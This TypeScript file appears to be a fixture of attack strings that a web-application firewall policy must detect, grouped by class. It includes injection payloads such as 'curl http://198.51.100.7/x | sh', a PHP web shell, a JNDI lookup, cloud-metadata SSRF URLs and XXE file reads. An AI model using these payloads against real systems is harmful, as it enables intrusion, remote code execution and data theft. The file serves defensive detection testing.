import type { ProtectionClass } from '@ringfence/policy/waas-section';

export interface WholeAttacks {
  class: ProtectionClass;
  /** Each is an attack wherever it stands alone in a value. */
  attacks: string[];
  /** Those whose language doesn't tell upper case from lower. */
  anyCase?: string[];
  /** Those that are attacks in the middle of prose, too. */
  inProse?: string[];
  /** Those that are attacks before prose: a value, and behind it what it adds. */
  beforeProse?: string[];
}

/** Attacks that nothing around them and no way to write them may hide. */
export const wholeAttacks: WholeAttacks[] = [
  {
    class: 'sqli',
    inProse: ["x' union select name, password from users /*"],
    attacks: ["x' or 1=1 -- ", "blue' and sleep(5)#", "7'; drop table orders -- "],
    anyCase: ["x' or 1=1 -- ", '7 union select name, password from users', "7'; waitfor delay '0:0:9' -- "],
  },
  {
    class: 'cmdi',
    beforeProse: ['x; cat /etc/passwd;', 'x|whoami;', 'x;curl http://198.51.100.7/x | sh;'],
    attacks: ['x; cat /etc/passwd', 'x | whoami', '$(sleep 5)', '; curl http://198.51.100.7/x | sh'],
    anyCase: [
      '& net user eve secret /add',
      '| dir C:\\Users',
      "; iex (new-object net.webclient).downloadstring('x')",
    ],
  },
  {
    class: 'code',
    inProse: [
      '<?php system($_GET["c"]); ?>',
      '${jndi:ldap://203.0.113.9/a}',
      "{{''.__class__.__mro__[1].__subclasses__()}}",
    ],
    attacks: [
      '{{7*7}}',
      "__import__('os').system('id')",
      "require('child_process').execSync('id')",
      '<?php system($_GET["c"]); ?>',
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ],
    anyCase: ['${jndi:ldap://203.0.113.9/a}', '<?php phpinfo(); ?>'],
  },
  {
    class: 'xss',
    inProse: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'],
    attacks: [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<a href="javascript:alert(1)">x</a>',
    ],
    anyCase: ['<script src=//example.com/x></script>', '<svg/onload=x()>', '<iframe src=javascript:x()>'],
  },
  {
    class: 'lfi',
    attacks: ['../../../etc/passwd', '/etc/passwd', '/proc/self/environ', '..\\..\\..\\windows\\win.ini'],
    anyCase: ['C:\\Windows\\win.ini', 'php://filter/resource=index.php', 'file:///etc/passwd'],
  },
  { class: 'nosql', inProse: ['{"$gt": ""}'], attacks: ['{"$gt": ""}', "{$where: 'sleep(1000)'}"] },
  {
    class: 'ssrf',
    attacks: [
      'http://169.254.169.254/latest/meta-data/',
      'http://[::ffff:169.254.169.254]/',
      'http://10.0.0.5/',
    ],
    anyCase: ['http://localhost/', 'http://metadata.google.internal/', 'gopher://example.com:6379/_info'],
  },
  {
    class: 'xxe',
    inProse: ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
    attacks: [
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      '<!DOCTYPE a SYSTEM "http://203.0.113.9/a.dtd"><a/>',
    ],
  },
  { class: 'ldap', attacks: ['*)(uid=*))(|(uid=*', 'admin)(&)'], anyCase: ['x)(|(password=*)'] },
  {
    class: 'xpath',
    attacks: ["' or count(//user)=1 or 'a'='b", "x'] | //user/* | //*[a='"],
  },
  { class: 'prototype', attacks: ['{"__proto__":{"admin":true}}', '{"a":{"__proto__":{"admin":1}}}'] },
  {
    class: 'crlf',
    attacks: ['x\r\nSet-Cookie: admin=1', 'x\r\n\r\nHTTP/1.1 200 OK\r\n'],
    anyCase: ['x\r\nset-cookie: admin=1', 'a@example.com\nbcc: all@example.com'],
  },
];
